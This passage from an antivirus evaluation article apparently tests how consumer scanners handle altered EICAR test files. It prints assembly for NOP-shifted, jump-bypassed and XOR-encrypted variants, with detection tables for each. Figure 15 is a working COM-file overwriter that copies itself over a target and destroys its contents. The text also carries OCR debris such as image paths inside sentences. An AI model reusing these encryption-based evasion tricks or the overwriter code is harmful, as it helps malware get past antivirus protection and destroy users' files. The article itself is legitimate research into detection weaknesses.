    if there was noone available, the online version is used. Here is the

     Acronym Name Version Company

     AAV AVG Antivirus 7.0.124 Grisoft
     BAV Bitdefender 7.1 Softwin
     CAV PC-cillin 10.02.1072 Trend Micro
     FAV F-Prot 3.13a Frisk Software International
     KAV Kaspersky Antivirus Kaspersky
     NAV Norton Antivirus 9.07.24d Symantec
     PAV Panda ActiveScan 4.2 (online) Panda Software
     RAV RAV Antivirus 8.6.105 GeCAD Software
     VAV McAfee VirusScan 7.02.6000 Networks Associates

    Figure 6. AVs hired for fun...

    ESATF compliance

    We simply ask AVs to check the real eicar.com zipped into a file called

     AV Message

     AAV EICAR_Test.CAV Eicar_test_file.
     FAV EICAR_Test_File (exact).
     KAV EICAR-Test-File.
     NAV EICAR Test String.
     RAV EICAR_Test_File.
     VAV EICAR test file.

    Figure 7. Compliance test.

    Good news! As I said above, ESATF (even zipped) is a well known industry-
    standard test file... It's another legitimate reason to use ESATF for
    our games: everyone knows it!

    Fun stuff - Part I

    Now, let's play with the character string inESATF. Instead of "EICAR-
    FILE!"; only the last three letters of the word "STANDARD" have been
    modified ("ARD" replaced by "ING"), the size of the virus is still the
    same, instructions too. The test file name is eicar2.zip. Here are the
    results (when an AV says "No viral code detected" or something like,
    we mention N/D for "not detected"):

     AV Message

     AAV EICAR_Test ( modified ).
     BAV N/D.
     CAV N/D.
     FAV EICAR_Test_File.unknown?
     KAV N/D.
     NAV N/D.
     RAV N/D.
     VAV N/D.

    Figure 8. String altered test.

    Only three AVs are aware of the alteration! Are others using the original
    ESATF string as signature? If so, it's not very clever (should they learn
    about wildcard string? For the "fun", they could have search for the
    EICAR? pattern!)...

    Some can say that ESATF altered... is not ESATF! Blind AVs are right
    then? I don't think so. Tons of viruses variants are simplyalterations
    of some bytes of the genuine virus. For example, often, lamers just modify
    the copyright or the name of the author. Therefore, it's not a good method
    to detect viruses using fixed bytes that are never executed: most of
    the time, it leads to absurdities (recently, a guy showed that NAV detected
    any file containing the string "Eddie lives...somewhere in time!" as
    beinginfected by the Dark Avenger virus...). This kind of privilege
    (probably used to speed up the scanning process) shouldn't be granted,
     even to ESATF! I guess AVs ought to "see" a variant. On the other hand,
     68 bytes don't give us many choices for a signature...

    At last, a strange idea comes to my mind: do some AVs bypass stages if
    a "known" virus doesn't look like what it's supposed to be? I mean, if
    a virus isn't, for example, supposed to be encrypted, is this possibility
    purely bypassed during scanning? In other words, does it mean that only
    signatures of viruses known to be encrypted are taken in account while
    AVs are processing encrypted parts of a suspicious code? If so, detection
    of known viruses variants is confronted with a strong limitation...

    Fun stuff - Part II

    Let's go one step further, what about emulation? In the first test, we
    just add a NOP (90h) instruction at the beginning of ESATF. Of course,
     we must take in consideration that this byte shifts addresses forward
    in memory! Fortunately, we only need to increment one byte of ESATF:
    at step 4 in Figure 2, we must replace 254041 opcodes values with 254141:

     AV Message

     AAV N/D.
     BAV N/D.
     CAV N/D.
     FAV New or modified variant of Trivial.
     KAV N/D.
     NAV N/D.
     PAV N/D.
     RAV N/D.
     VAV N/D.

    Figure 9. NOP test.

    One AV show some interest for our test... but F-Prot is on the bad path;
    Trivial is a family of short in size COM infectors damaging one single
    file at a time. Nothing to do with ESATF!

    In the second test,we bypass ESATF: we simply jump to the end of the
    code where an int 20h instruction ends the process. ESATF is never executed
    but is in working order! Some external code could easily call it (with
    Debug, load the following code and trace/run it starting from the 102h
    address: ESATF is functional!):

     01 .386
     02 .MODEL TINY
     06 ORG 100h
     08 @START: jmp @END
     09 pop ax
     10 xor ax,214Fh
     11 push ax
     12 and ax,4142h
     13 push ax
     14 pop bx
     15 xor al,5Ch
     16 push ax
     17 pop dx
     18 pop ax
     19 xor ax,2834h
     20 push ax
     21 pop si
     22 sub [bx],si
     23 inc bx
     24 inc bx
     25 sub [bx],si
     26 jge @RUN
     28 @RUN: dec ax
     29 sub cx,[bx+si+2Ah]
     30 @END: int 20h
     32 CODE ENDS
     34 END @START
    Figure 10. ESATF "bypassed" source code.

     AV Message

     AAV N/D.
     BAV N/D.
     CAV N/D.
     FAV N/D.
     KAV N/D.
     NAV N/D.
     PAV N/D.
     RAV N/D.
     VAV N/D.

    Figure 11. JMP test.

    No one cares! Does it mean that emulation and heuristics are a de luxe
    tool? What kind of code can trigger their reaction? Note that if we don't"adjust" ESATF code (making it inoperative then), Figure 11 results are
    the same. However, PC-cillin and RAV react to the NOP test; at least,
     you can guess what signature they use for ESATF :-).

    Fun stuff - Part III

    A lot of viruses use encryption. Let's do the same with ESATF! In order
    to keep things simple, we just XOR each of its bytes with the value 55h:

       00 01 02 03 04 05 06 07

     00 0D 60 1A 74 05 70 15 14
     01 05 0E 61 09 05 0F 0D 60
     02 61 7D 05 0B 7C 62 16 16
     03 7C 62 28 71 10 1C 16 14
     04 07 78 06 01 14 1B 11 14
     05 07 11 78 14 1B 01 1C 03
     06 1C 07 00 06 78 01 10 06
     07 01 78 13 1C 19 10 74 71
     08 1D 7E 1D 7F

    Figure 12. ESATF XORed with 55h.

    Now, let's give ESATF a true suspicious viral behavior: a decryption
    loop. Here isthe code:

     01 .386
     02 .MODEL TINY
     06 ORG 100h
     08 @START: jmp @GO
     09 @EICAR:
     10 DB 0Dh,60h,1Ah,74h,05h,70h,15h,14h
     11 DB 05h,0Eh,61h,09h,05h,0Fh,0Dh,60h12 DB 61h,7Dh,05h,0Bh,7Ch,62h,16h,16h
     13 DB 7Ch,62h,28h,71h,10h,1Ch,16h,14h
     14 DB 07h,78h,06h,01h,14h,1Bh,11h,14h
     15 DB 07h,11h,78h,14h,1Bh,01h,1Ch,03h
     16 DB 1Ch,07h,00h,06h,78h,01h,10h,06h
     17 DB 01h,78h,13h,1Ch,19h,10h,74h,71h
     18 DB 1Dh,7Eh,1Dh,7Fh
     19 @GO: mov cx,44h
     20 mov si,@EICAR
     21 mov di,@START
     22 @DECRYPT: lodsb
     23 xor al,55h
     24 stosb
     25 loop @DECRYPT26 JMP @START
     28 CODE ENDS
     30 END @START
    Figure 13. ESATF encrypted source code.

    Notice that after the decryption process, ESATF original code is in memory,
     beginning at address 100h; that is, if AVs are using a bit of emulation,
     they won't be fooled:

     AV Message

     AAV N/D.
     BAV N/D.
     CAV N/D.
     FAV New or modified variant of Trivial.KAV EICAR-Test-File.
     NAV N/D.
     PAV N/D.
     VAV N/D.

    Figure 14. Encryption test.

    Actually, just three AVs do their job (but F-Prot is still wrong)! As
    a matter of interest, this article is following a discussion I had on
    the fr.comp.securite.virus newsgroup; the first time I published the
    Figure 13 source code, KAV didn't react. But someone send it to Kaspersky's
    and a few hours later the detection worked...

    I find this a little bit funny. For sure, we must note the speed of reaction
    and the importance to warn AV editors, but, however, what if we use thousand
    of different "modified" ESATF? Do they add signatures indefinitely?

    Let's try with a 67h XORed version: KAV finds ESATF again. Okay! what
    with an ORed crypted version then? This time, KAV is defeated. Did they
    take care of XOR encryption only? Strange strategy...

    Fun stuff - Part IV

    Well, now... the great show: file search and replication parts are included!
    The final code is similar to what we found in the past inside true lamer
    COM overwriter viruses:

     01 .386
     02 .MODEL TINY
     06 ORG 100h
     08 @START: jmp @GO
     09 @EICAR:
     10 DB 0Dh,60h,1Ah,74h,05h,70h,15h,14h
     11 DB 05h,0Eh,61h,09h,05h,0Fh,0Dh,60h
     12 DB 61h,7Dh,05h,0Bh,7Ch,62h,16h,16h
     13 DB 7Ch,62h,28h,71h,10h,1Ch,16h,14h
     14 DB 07h,78h,06h,01h,14h,1Bh,11h,14h
     15 DB 07h,11h,78h,14h,1Bh,01h,1Ch,03h
     16 DB 1Ch,07h,00h,06h,78h,01h,10h,06h
     17 DB 01h,78h,13h,1Ch,19h,10h,74h,71h
     18 DB 1Dh,7Eh,1Dh,7Fh
     19 FileName DB "goat.com",0
     20 @GO: mov ax,4E00h
     21 mov cx,00100111b
     22 mov dx,OFFSET FileName
     23 int 21h
     24 jc @RUN26 mov ah,3Dh
     27 mov al,10010010b
     28 mov dx,09Eh
     29 int 21h
     30 jc @RUN
     31 mov bx,ax
     33 mov cx,@END-@START
     34 mov dx,@START
     35 mov ax,4000h
     36 int 21h
     38 mov ax,3E00h
     39 int 21h
     41 @RUN: mov cx,44h
     42 mov si,@EICAR
     43 mov di,@START
     44 @DECRYPT: lodsb
     45 xor al,55h
     46 stosb
     47 loop @DECRYPT
     48 JMP @START
     49 @END:
     51 CODE ENDS
     53 END @START
    Figure 15. ESATF "overwriter" source code.

    It's a very simple program! First, we look for a COM file; in order to
    restrict the virus action, we search for a file called goat.com (just
    create an empty file and save it with that name) in the directory where
    eicar.com is. It's the unique possible target. Then, we open this file
    and copy our virus code into it. Actually, we overwrite the target contents;
    it's clearly a destruction action! Finally, we close the file and run
    ESATF code after its decryption.

    You may think "well, overwriters viruses are known for ages, heuristics
    will defeat this kind of code". After all, looking for a file and replication
    are not very discreet treatments... Look:

     AV Message

     AAV N/D.
     BAV N/D.
     CAV N/D.
     FAV New or modified variant of Trivial.
     KAV N/D.
     NAV N/D.
     PAV N/D.VAV A virus was detected.

    Figure 16. Specific overwriter test.

    Note that McAfee detects a virus but is unable to name it. RAV still
    recognizes ESATF... but it goofed up! ESATF is "just" the payload now.
    It's not a good idea to keep EICAR name because it could mislead the
    user. Even not really accurate, McAfee approch is more "safe". F-Prot
    finds a Trivial variant; this time, it's a good answer.

    Well, some will say that the code above is not very dangerous, it has
    no chance to spread wide. AVs don't react because a code writting into
